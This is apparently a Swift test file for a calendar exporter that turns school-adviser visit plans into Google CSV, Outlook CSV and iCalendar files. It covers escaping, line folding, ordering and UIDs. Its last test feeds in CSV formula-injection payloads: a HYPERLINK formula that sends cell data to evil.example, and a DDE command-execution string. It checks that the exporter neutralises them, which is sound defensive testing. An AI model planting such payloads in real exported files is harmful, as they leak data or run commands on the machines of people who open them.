import AdviserModel
@testable import AdviserReports
import AdviserSolver
import Foundation
import Testing

/// Two advisers, three visits; one school name with a comma, one with a quote, one with accents.
private func calendarPlan() -> Plan {
    var plan = Plan(
        scenario: .init(name: "Knowsley Primaries 2026", fingerprint: "sha256:abc", start: CivilDate(iso: "2026-01-05"),
                        end: CivilDate(iso: "2026-07-17")),
        status: .optimal, objective: 1, bound: 1, gap: 0,
        model: .init(variables: 1, integerVariables: 1, constraints: 1, nonzeros: 1),
        assignments: [], unmet: [])
    plan.advisers = [
        .init(id: "A1", name: "Ann Able", role: "former HMI", capacityDays: 10, maxSchools: 3, dayRate: 500),
        .init(id: "A2", name: "Bob Best", role: "", capacityDays: 5, maxSchools: 2, dayRate: 500),
    ]
    plan.schools = [
        .init(id: "100001", name: "St Aidan's Church of England Primary School, Huyton", phase: .primary, localAuthority: "Knowsley", disadvantagedPct: 48),
        .init(id: "100002", name: "Kirkby \"Hill\" Academy", phase: .secondary, localAuthority: "Knowsley", disadvantagedPct: 31.5),
        .init(id: "100003", name: "École Saint-Étienne", phase: .primary, localAuthority: "Liverpool", disadvantagedPct: 20),
    ]
    // Deliberately not in date order: the export sorts.
    plan.visits = [
        .init(adviser: "A1", school: "100002", date: calDate("2026-03-30"), start: "13:30", end: "15:30", areas: ["maths"]),
        .init(adviser: "A2", school: "100003", date: calDate("2026-01-12"), start: "09:00", end: "15:30", areas: ["send"]),
        .init(adviser: "A1", school: "100001", date: calDate("2026-01-12"), start: "09:00", end: "12:00", areas: ["lead", "literacy"]),
    ]
    return plan
}

private func calDate(_ iso: String) -> CivilDate { CivilDate(iso: iso)! }

private func calSchool(_ id: String, _ name: String, la: String = "Knowsley") -> Plan.SchoolInfo {
    .init(id: id, name: name, phase: .primary, localAuthority: la, disadvantagedPct: 0)
}

private func calVisit(_ adviser: String, _ school: String, _ day: String, _ start: String = "09:00", _ end: String = "12:00",
                   areas: [String] = ["literacy"]) -> Plan.Visit {
    .init(adviser: adviser, school: school, date: calDate(day), start: start, end: end, areas: areas)
}

private func calEvent(summary: String = "S", location: String = "L", description: String = "D",
                   start: String = "09:00", end: String = "12:00") -> CalendarEvent {
    .init(uid: "u@adviser-planner", adviser: "A1", summary: summary, location: location, description: description,
          date: calDate("2026-01-12"), start: start, end: end)
}

// MARK: Readers written for the tests, independent of the writer

/// A minimal RFC 4180 reader: records of fields; quoted fields may hold commas, doubled quotes, CR and LF.
private func readCSV(_ text: String) -> [[String]] {
    var records: [[String]] = [], fields: [String] = [], field = ""
    var quoted = false, i = text.unicodeScalars.startIndex
    let s = text.unicodeScalars
    while i < s.endIndex {
        let c = s[i]
        if quoted {
            if c == "\"" {
                let next = s.index(after: i)
                if next < s.endIndex && s[next] == "\"" { field.unicodeScalars.append("\""); i = next } else { quoted = false }
            } else { field.unicodeScalars.append(c) }
        } else if c == "\"" && field.isEmpty {
            quoted = true
        } else if c == "," {
            fields.append(field); field = ""
        } else if c == "\r" && s.index(after: i) < s.endIndex && s[s.index(after: i)] == "\n" {
            fields.append(field); field = ""; records.append(fields); fields = []
            i = s.index(after: i)
        } else {
            field.unicodeScalars.append(c)
        }
        i = s.index(after: i)
    }
    if !field.isEmpty || !fields.isEmpty { fields.append(field); records.append(fields) }
    return records
}

/// Physical lines of an iCalendar file as bytes, split at CRLF (the file must end with one).
private func physicalLines(_ ics: String) -> [[UInt8]] {
    let bytes = Array(ics.utf8)
    var lines: [[UInt8]] = [], line: [UInt8] = [], i = 0
    while i < bytes.count {
        if bytes[i] == 13 && i + 1 < bytes.count && bytes[i + 1] == 10 { lines.append(line); line = []; i += 2; continue }
        line.append(bytes[i]); i += 1
    }
    #expect(line.isEmpty, "the file ends with CRLF")
    return lines
}

/// Unfolded content lines (RFC 5545 3.1: CRLF followed by one space or tab is removed).
private func unfold(_ ics: String) -> [String] {
    var out: [String] = []
    for line in physicalLines(ics) {
        if let first = line.first, first == 32 || first == 9, !out.isEmpty {
            out[out.count - 1] += String(decoding: line.dropFirst(), as: UTF8.self)
        } else {
            out.append(String(decoding: line, as: UTF8.self))
        }
    }
    return out
}

/// A TEXT value with its escapes undone.
private func unescape(_ value: String) -> String {
    var out = "", escaped = false
    for c in value {
        if escaped {
            out.append(c == "n" || c == "N" ? "\n" : c)
            escaped = false
        } else if c == "\\" { escaped = true } else { out.append(c) }
    }
    return out
}

/// Each VEVENT's properties, name (without parameters) to unescaped value.
private func readEvents(_ ics: String) -> [[String: String]] {
    var events: [[String: String]] = [], current: [String: String]? = nil
    for line in unfold(ics) {
        if line == "BEGIN:VEVENT" { current = [:]; continue }
        if line == "END:VEVENT" { events.append(current!); current = nil; continue }
        guard current != nil, let colon = line.firstIndex(of: ":") else { continue }
        let name = line[..<colon].split(separator: ";")[0]
        current![String(name)] = unescape(String(line[line.index(after: colon)...]))
    }
    return events
}

@Suite struct CalendarExportTests {
    // MARK: Exact bytes

    @Test func googleCSVIsExact() {
        #expect(CalendarExport.render(.googleCSV, plan: calendarPlan(), adviser: nil) == """
        Subject,Start Date,Start Time,End Date,End Time,All Day Event,Description,Location,Private\r
        "Ann Able at St Aidan's Church of England Primary School, Huyton",01/12/2026,09:00 AM,01/12/2026,12:00 PM,False,"Areas: lead, literacy
        Visit 1 of 1
        Adviser: Ann Able (former HMI)
        Programme: Knowsley Primaries 2026","St Aidan's Church of England Primary School, Huyton, Knowsley",True\r
        Bob Best at École Saint-Étienne,01/12/2026,09:00 AM,01/12/2026,03:30 PM,False,"Areas: send
        Visit 1 of 1
        Adviser: Bob Best
        Programme: Knowsley Primaries 2026","École Saint-Étienne, Liverpool",True\r
        "Ann Able at Kirkby ""Hill"" Academy",03/30/2026,01:30 PM,03/30/2026,03:30 PM,False,"Areas: maths
        Visit 1 of 1
        Adviser: Ann Able (former HMI)
        Programme: Knowsley Primaries 2026","Kirkby ""Hill"" Academy, Knowsley",True\r

        """)
    }

    @Test func outlookCSVIsExact() {
        #expect(CalendarExport.render(.outlookCSV, plan: calendarPlan(), adviser: nil) == """
        Subject,Start Date,Start Time,End Date,End Time,All day event,Reminder on/off,Reminder Date,Reminder Time,Meeting Organizer,Required Attendees,Optional Attendees,Meeting Resources,Billing Information,Categories,Description,Location,Mileage,Priority,Private,Sensitivity,Show time as\r
        "Ann Able at St Aidan's Church of England Primary School, Huyton",2026-01-12,09:00:00,2026-01-12,12:00:00,False,False,,,,,,,,Advisory visit,"Areas: lead, literacy
        Visit 1 of 1
        Adviser: Ann Able (former HMI)
        Programme: Knowsley Primaries 2026","St Aidan's Church of England Primary School, Huyton, Knowsley",,Normal,True,Private,2\r
        Bob Best at École Saint-Étienne,2026-01-12,09:00:00,2026-01-12,15:30:00,False,False,,,,,,,,Advisory visit,"Areas: send
        Visit 1 of 1
        Adviser: Bob Best
        Programme: Knowsley Primaries 2026","École Saint-Étienne, Liverpool",,Normal,True,Private,2\r
        "Ann Able at Kirkby ""Hill"" Academy",2026-03-30,13:30:00,2026-03-30,15:30:00,False,False,,,,,,,,Advisory visit,"Areas: maths
        Visit 1 of 1
        Adviser: Ann Able (former HMI)
        Programme: Knowsley Primaries 2026","Kirkby ""Hill"" Academy, Knowsley",,Normal,True,Private,2\r

        """)
    }

    @Test func iCalendarIsExact() {
        #expect(CalendarExport.render(.ics, plan: calendarPlan(), adviser: nil) == """
        BEGIN:VCALENDAR\r
        VERSION:2.0\r
        PRODID:-//adviser-planner//EN\r
        CALSCALE:GREGORIAN\r
        X-WR-CALNAME:Knowsley Primaries 2026\r
        BEGIN:VTIMEZONE\r
        TZID:Europe/London\r
        BEGIN:DAYLIGHT\r
        TZOFFSETFROM:+0000\r
        TZOFFSETTO:+0100\r
        TZNAME:BST\r
        DTSTART:19700329T010000\r
        RRULE:FREQ=YEARLY;BYMONTH=3;BYDAY=-1SU\r
        END:DAYLIGHT\r
        BEGIN:STANDARD\r
        TZOFFSETFROM:+0100\r
        TZOFFSETTO:+0000\r
        TZNAME:GMT\r
        DTSTART:19701025T020000\r
        RRULE:FREQ=YEARLY;BYMONTH=10;BYDAY=-1SU\r
        END:STANDARD\r
        END:VTIMEZONE\r
        BEGIN:VEVENT\r
        UID:A1-100001-20260112T0900@adviser-planner\r
        DTSTAMP:20260105T000000Z\r
        DTSTART;TZID=Europe/London:20260112T090000\r
        DTEND;TZID=Europe/London:20260112T120000\r
        SUMMARY:Ann Able at St Aidan's Church of England Primary School\\, Huyton\r
        LOCATION:St Aidan's Church of England Primary School\\, Huyton\\, Knowsley\r
        DESCRIPTION:Areas: lead\\, literacy\\nVisit 1 of 1\\nAdviser: Ann Able (former\r
          HMI)\\nProgramme: Knowsley Primaries 2026\r
        END:VEVENT\r
        BEGIN:VEVENT\r
        UID:A2-100003-20260112T0900@adviser-planner\r
        DTSTAMP:20260105T000000Z\r
        DTSTART;TZID=Europe/London:20260112T090000\r
        DTEND;TZID=Europe/London:20260112T153000\r
        SUMMARY:Bob Best at École Saint-Étienne\r
        LOCATION:École Saint-Étienne\\, Liverpool\r
        DESCRIPTION:Areas: send\\nVisit 1 of 1\\nAdviser: Bob Best\\nProgramme: Knowsl\r
         ey Primaries 2026\r
        END:VEVENT\r
        BEGIN:VEVENT\r
        UID:A1-100002-20260330T1330@adviser-planner\r
        DTSTAMP:20260105T000000Z\r
        DTSTART;TZID=Europe/London:20260330T133000\r
        DTEND;TZID=Europe/London:20260330T153000\r
        SUMMARY:Ann Able at Kirkby "Hill" Academy\r
        LOCATION:Kirkby "Hill" Academy\\, Knowsley\r
        DESCRIPTION:Areas: maths\\nVisit 1 of 1\\nAdviser: Ann Able (former HMI)\\nPro\r
         gramme: Knowsley Primaries 2026\r
        END:VEVENT\r
        END:VCALENDAR\r

        """)
    }

    @Test func eventsCarryTheVisitDetails() {
        let events = CalendarExport.events(from: calendarPlan())
        #expect(events.first == CalendarEvent(
            uid: "A1-100001-20260112T0900@adviser-planner", adviser: "A1",
            summary: "Ann Able at St Aidan's Church of England Primary School, Huyton",
            location: "St Aidan's Church of England Primary School, Huyton, Knowsley",
            description: "Areas: lead, literacy\nVisit 1 of 1\nAdviser: Ann Able (former HMI)\nProgramme: Knowsley Primaries 2026",
            date: calDate("2026-01-12"), start: "09:00", end: "12:00"))
        // Sorted by date, start, adviser, school.
        #expect(events.map(\.uid) == ["A1-100001-20260112T0900@adviser-planner", "A2-100003-20260112T0900@adviser-planner",
                                      "A1-100002-20260330T1330@adviser-planner"])
    }

    // MARK: Filtering and numbering

    @Test func oneAdvisersCalendarHasOnlyTheirVisits() {
        let plan = calendarPlan()
        let mine = CalendarExport.events(from: plan, adviser: "A1")
        #expect(mine.map(\.adviser) == ["A1", "A1"])
        #expect(mine.map(\.summary) == ["Advisory visit: St Aidan's Church of England Primary School, Huyton",
                                        "Advisory visit: Kirkby \"Hill\" Academy"])
        #expect(CalendarExport.events(from: plan, adviser: "A2").map(\.location) == ["École Saint-Étienne, Liverpool"])
        #expect(CalendarExport.events(from: plan, adviser: "nobody").isEmpty)
        #expect(CalendarExport.render(.googleCSV, plan: plan, adviser: "nobody") ==
                "Subject,Start Date,Start Time,End Date,End Time,All Day Event,Description,Location,Private\r\n")

        let ics = CalendarExport.render(.ics, plan: plan, adviser: "A1")
        #expect(unfold(ics).contains("X-WR-CALNAME:Knowsley Primaries 2026 - Ann Able"))
        #expect(readEvents(ics).map { $0["SUMMARY"]! } == mine.map(\.summary))
        let outlook = readCSV(CalendarExport.render(.outlookCSV, plan: plan, adviser: "A2"))
        #expect(outlook.count == 2)
        #expect(outlook[1][0] == "Advisory visit: École Saint-Étienne")
    }

    @Test func visitsAreNumberedPerAdviserAndSchoolInDateOrder() {
        var plan = calendarPlan()
        plan.visits = [
            calVisit("A1", "100001", "2026-02-09", "13:00", "15:00"),
            calVisit("A1", "100001", "2026-01-12", "10:00", "12:00"),
            calVisit("A2", "100001", "2026-01-12", "13:00", "15:00"),
            calVisit("A1", "100001", "2026-02-09", "9:30", "11:30"),   // 9:30 is before 13:00 on the clock
            calVisit("A1", "100003", "2026-01-19"),
        ]
        func numbering(_ events: [CalendarEvent]) -> [String] {
            events.map { e in "\(e.adviser) \(e.date) \(e.start) " + e.description.split(separator: "\n").first { $0.hasPrefix("Visit ") }! }
        }
        #expect(numbering(CalendarExport.events(from: plan)) == [
            "A1 2026-01-12 10:00 Visit 1 of 3",
            "A2 2026-01-12 13:00 Visit 1 of 1",
            "A1 2026-01-19 09:00 Visit 1 of 1",
            "A1 2026-02-09 9:30 Visit 2 of 3",
            "A1 2026-02-09 13:00 Visit 3 of 3",
        ])
        // Numbering counts the whole plan, not just the exported adviser's share of it.
        #expect(numbering(CalendarExport.events(from: plan, adviser: "A1")).last == "A1 2026-02-09 13:00 Visit 3 of 3")
        #expect(CalendarExport.events(from: plan).map(\.uid)[3] == "A1-100001-20260209T0930@adviser-planner")
    }

    // MARK: Stability

    @Test func samePlanGivesSameBytes() {
        var shuffled = calendarPlan()
        shuffled.visits.reverse()
        shuffled.schools.reverse()
        for format in CalendarFormat.allCases {
            for adviser in [nil, "A1", "A2"] as [String?] {
                let once = CalendarExport.render(format, plan: calendarPlan(), adviser: adviser)
                #expect(CalendarExport.render(format, plan: calendarPlan(), adviser: adviser) == once)
                #expect(CalendarExport.render(format, plan: shuffled, adviser: adviser) == once)
            }
        }
    }

    @Test func uidsAreStableAndDistinct() {
        var plan = calendarPlan()
        let before = CalendarExport.events(from: plan).map(\.uid)
        plan.visits = plan.visits.map { v in var v = v; v.end = "16:00"; v.areas = ["other"]; return v }
        plan.schools[0].name = "Renamed"
        #expect(CalendarExport.events(from: plan).map(\.uid) == before, "UIDs depend only on adviser, school, date and start")

        plan.advisers += [.init(id: "A-1", name: "Dash", role: "", capacityDays: 1, maxSchools: 1, dayRate: 1),
                          .init(id: "A", name: "Plain", role: "", capacityDays: 1, maxSchools: 1, dayRate: 1),
                          .init(id: "jo.smith@x", name: "Jo", role: "", capacityDays: 1, maxSchools: 1, dayRate: 1)]
        plan.visits = [calVisit("A-1", "X", "2026-01-12"), calVisit("A", "1-X", "2026-01-12"), calVisit("jo.smith@x", "Sté 9", "2026-01-12")]
        let uids = CalendarExport.events(from: plan).map(\.uid)
        #expect(uids == ["A-1.2DX-20260112T0900@adviser-planner", "A.2D1-X-20260112T0900@adviser-planner",
                         "jo.2Esmith.40x-St.C3.A9.209-20260112T0900@adviser-planner"])
        let allowed = Set("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789.-@")
        #expect(uids.allSatisfy { $0.allSatisfy(allowed.contains) })
    }

    @Test func stampComesFromThePlanNotTheClock() {
        var plan = calendarPlan()
        #expect(unfold(CalendarExport.render(.ics, plan: plan, adviser: nil)).contains("DTSTAMP:20260105T000000Z"))
        plan.scenario.start = nil
        #expect(unfold(CalendarExport.render(.ics, plan: plan, adviser: nil)).contains("DTSTAMP:20260112T000000Z"))
        #expect(CalendarExport.iCalendar([calEvent()], name: "N", stamp: "20260105T000000Z").contains("\r\nDTSTAMP:20260105T000000Z\r\n"))
    }

    /// RFC 5545 TEXT: backslash, semicolon and comma escaped, a line break as \n (CRLF as one), other
    /// control characters dropped, tab and every other character kept as it is.
    @Test func textIsEscapedExactly() {
        #expect(CalendarExport.escapeText("Ysgol Gymraeg Évans\tBro\u{85}") == "Ysgol Gymraeg Évans\tBro\u{85}")
        #expect(CalendarExport.escapeText("St Mary's, Huyton; C\\E") == "St Mary's\\, Huyton\\; C\\\\E")
        #expect(CalendarExport.escapeText("a\r\nb\nc\rd") == "a\\nb\\nc\\nd")
        #expect(CalendarExport.escapeText("bell\u{7}del\u{7F}nul\u{0}") == "belldelnul")
        #expect(CalendarExport.escapeText("") == "")
    }

    // MARK: Times

    @Test func googleTimesAreTwelveHourAndOutlookTimesTwentyFourHour() {
        let events = [calEvent(start: "00:15", end: "12:00"), calEvent(start: "12:30", end: "23:59"), calEvent(start: "9:05", end: "11:00")]
        let google = readCSV(CalendarExport.googleCSV(events)).dropFirst().map { [$0[1], $0[2], $0[3], $0[4]] }
        #expect(google == [["01/12/2026", "12:15 AM", "01/12/2026", "12:00 PM"],
                           ["01/12/2026", "12:30 PM", "01/12/2026", "11:59 PM"],
                           ["01/12/2026", "09:05 AM", "01/12/2026", "11:00 AM"]])
        let outlook = readCSV(CalendarExport.outlookCSV(events)).dropFirst().map { [$0[1], $0[2], $0[3], $0[4]] }
        #expect(outlook == [["2026-01-12", "00:15:00", "2026-01-12", "12:00:00"],
                            ["2026-01-12", "12:30:00", "2026-01-12", "23:59:00"],
                            ["2026-01-12", "09:05:00", "2026-01-12", "11:00:00"]])
        let ics = readEvents(CalendarExport.iCalendar(events, name: "N", stamp: "20260105T000000Z"))
        #expect(ics.map { $0["DTSTART"]! } == ["20260112T001500", "20260112T123000", "20260112T090500"])
        #expect(ics.map { $0["DTEND"]! } == ["20260112T120000", "20260112T235900", "20260112T110000"])
    }

    // MARK: Folding

    @Test func longLinesFoldAt75OctetsWithoutSplittingCharacters() throws {
        // Shifting the text one octet at a time puts every octet of 2-, 3- and 4-octet characters on the boundary.
        for shift in 0..<8 {
            let text = String(repeating: "x", count: shift) + String(repeating: "Éa€b😀c𝄞 Saint-Étienne; ", count: 12) + "end"
            let ics = CalendarExport.iCalendar([calEvent(description: text)], name: "N", stamp: "20260105T000000Z")
            let lines = physicalLines(ics)
            for line in lines {
                #expect(line.count <= 75)
                #expect(String(validating: line, as: UTF8.self) != nil, "a line on its own is whole UTF-8")
            }
            let description = lines.drop { !$0.starts(with: Array("DESCRIPTION:".utf8)) }
            #expect(description.first!.count >= 72, "lines are filled up to the limit")
            #expect(description.dropFirst().prefix { $0.first == 32 }.count >= 5)
            #expect(readEvents(ics)[0]["DESCRIPTION"] == text)
        }
    }

    @Test func foldingBoundaryIsExact() {
        // "DESCRIPTION:" is 12 octets: 63 more make a 75-octet line, which stays whole.
        let fits = CalendarExport.iCalendar([calEvent(description: String(repeating: "a", count: 63))], name: "N", stamp: "20260105T000000Z")
        #expect(fits.contains("\r\nDESCRIPTION:" + String(repeating: "a", count: 63) + "\r\nEND:VEVENT"))
        let over = CalendarExport.iCalendar([calEvent(description: String(repeating: "a", count: 64))], name: "N", stamp: "20260105T000000Z")
        #expect(over.contains("\r\nDESCRIPTION:" + String(repeating: "a", count: 63) + "\r\n a\r\nEND:VEVENT"))
        // A 2-octet "é" that would end at octet 76 moves whole to the next line.
        let accent = CalendarExport.iCalendar([calEvent(description: String(repeating: "a", count: 62) + "éz")], name: "N", stamp: "20260105T000000Z")
        #expect(accent.contains("\r\nDESCRIPTION:" + String(repeating: "a", count: 62) + "\r\n éz\r\nEND:VEVENT"))
        // Continuation lines carry 74 octets after their space.
        let long = CalendarExport.iCalendar([calEvent(description: String(repeating: "b", count: 63 + 74 + 1))], name: "N", stamp: "20260105T000000Z")
        #expect(long.contains("\r\n " + String(repeating: "b", count: 74) + "\r\n b\r\nEND:VEVENT"))
    }

    // MARK: Round trips

    static let awkwardNames = [
        "St Aidan's, Huyton", "Kirkby \"Hill\" Academy", "École Saint-Étienne", "Two\nlines", "Semi; colon\\back",
        "\"Quoted\", then, commas", "Ysgol Gymraeg Aberystwyth — Ŵ ŷ", "Emoji 🏫 school",
    ]

    func awkwardPlan() -> Plan {
        var plan = calendarPlan()
        plan.scenario.name = "Programme, \"2026\"; north\\west"
        plan.advisers[0].name = "Siân O'Neil, \"Sam\""
        plan.advisers[0].role = "HMI; retired"
        plan.schools = Self.awkwardNames.enumerated().map { calSchool("S\($0.offset)", $0.element, la: "Vale of Glamorgan, Wales") }
        plan.visits = plan.schools.enumerated().map { i, s in
            calVisit(i % 2 == 0 ? "A1" : "A2", s.id, "2026-01-\(10 + i)", areas: ["literacy, early reading", "send"])
        }
        return plan
    }

    @Test func csvReadsBackToTheSameText() {
        let plan = awkwardPlan()
        for adviser in [nil, "A1"] as [String?] {
            let events = CalendarExport.events(from: plan, adviser: adviser)
            let google = readCSV(CalendarExport.googleCSV(events))
            #expect(google.count == events.count + 1)
            #expect(google[0] == CalendarExport.googleColumns)
            #expect(google.allSatisfy { $0.count == 9 })
            #expect(google.dropFirst().map { [$0[0], $0[6], $0[7]] } == events.map { [$0.summary, $0.description, $0.location] })

            let outlook = readCSV(CalendarExport.outlookCSV(events))
            #expect(outlook.count == events.count + 1)
            #expect(outlook[0] == CalendarExport.outlookColumns)
            #expect(outlook.allSatisfy { $0.count == 22 })
            #expect(outlook.dropFirst().map { [$0[0], $0[15], $0[16]] } == events.map { [$0.summary, $0.description, $0.location] })
        }
        let everyone = CalendarExport.events(from: plan)
        #expect(everyone[0].summary == "Siân O'Neil, \"Sam\" at St Aidan's, Huyton")
        #expect(everyone[3].location == "Two\nlines, Vale of Glamorgan, Wales")
        #expect(everyone[0].description ==
                "Areas: literacy, early reading, send\nVisit 1 of 1\nAdviser: Siân O'Neil, \"Sam\" (HMI; retired)\nProgramme: Programme, \"2026\"; north\\west")
    }

    @Test func iCalendarReadsBackToTheSameText() {
        let plan = awkwardPlan()
        for adviser in [nil, "A2"] as [String?] {
            let events = CalendarExport.events(from: plan, adviser: adviser)
            let ics = CalendarExport.render(.ics, plan: plan, adviser: adviser)
            #expect(physicalLines(ics).allSatisfy { $0.count <= 75 })
            let back = readEvents(ics)
            #expect(back.map { $0["SUMMARY"]! } == events.map(\.summary))
            #expect(back.map { $0["LOCATION"]! } == events.map(\.location))
            #expect(back.map { $0["DESCRIPTION"]! } == events.map(\.description))
            #expect(back.map { $0["UID"]! } == events.map(\.uid))
        }
        let calendarName = unfold(CalendarExport.render(.ics, plan: plan, adviser: nil)).first { $0.hasPrefix("X-WR-CALNAME:") }!
        #expect(calendarName == "X-WR-CALNAME:Programme\\, \"2026\"\\; north\\\\west")
    }

    @Test func iCalendarTextHasNoRawLineBreaksOrControls() {
        let ics = CalendarExport.iCalendar([calEvent(summary: "CR\r\nLF\rCR\nLF\u{7}bell\ttab")], name: "N", stamp: "20260105T000000Z")
        #expect(ics.contains("\r\nSUMMARY:CR\\nLF\\nCR\\nLF" + "bell\ttab\r\n"))
        #expect(readEvents(ics)[0]["SUMMARY"] == "CR\nLF\nCR\nLFbell\ttab")
    }

    // MARK: Spreadsheet formulas

    @Test func formulaCellsAreNeutralised() {
        var plan = calendarPlan()
        plan.schools = [
            calSchool("S1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", la: ""),
            calSchool("S2", "-2+3", la: ""),
            calSchool("S3", "+44 Academy", la: "Knowsley"),
            calSchool("S4", "@SUM(1)", la: ""),
            calSchool("S5", "\tTabbed", la: ""),
            calSchool("S6", "\rReturn", la: ""),
            calSchool("S7", "Plain - with = inside", la: ""),
        ]
        plan.visits = plan.schools.enumerated().map { calVisit("A1", $0.element.id, "2026-01-\(12 + $0.offset)") }
        plan.advisers[0].name = "=cmd|' /C calc'!A0"

        let google = CalendarExport.render(.googleCSV, plan: plan, adviser: "A1")
        let rows = google.components(separatedBy: "\r\n")
        #expect(rows[1].hasSuffix(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",True"))
        #expect(rows[2].hasSuffix(",'-2+3,True"))
        #expect(rows[3].hasSuffix(",\"'+44 Academy, Knowsley\",True"))
        #expect(rows[4].hasSuffix(",'@SUM(1),True"))
        #expect(rows[5].hasSuffix(",'\tTabbed,True"))
        #expect(rows[6].hasSuffix(",\"'\rReturn\",True"))
        #expect(rows[7].hasSuffix(",Plain - with = inside,True"))

        // Every cell that reads back starting with a formula character has the quote in front of it.
        for format in [CalendarFormat.googleCSV, .outlookCSV] {
            for adviser in [nil, "A1"] as [String?] {
                for cell in readCSV(CalendarExport.render(format, plan: plan, adviser: adviser)).joined() {
                    #expect(!["=", "+", "-", "@", "\t", "\r"].contains(cell.unicodeScalars.first ?? " "), "\(cell)")
                }
            }
        }
        // The whole-plan summary starts with the adviser's name, which is neutralised too.
        #expect(readCSV(CalendarExport.render(.outlookCSV, plan: plan, adviser: nil))[1][0] ==
                "'=cmd|' /C calc'!A0 at =HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")")
        // iCalendar is not opened by spreadsheets: names are kept as they are.
        #expect(readEvents(CalendarExport.render(.ics, plan: plan, adviser: "A1"))[1]["LOCATION"] == "-2+3")
    }
}
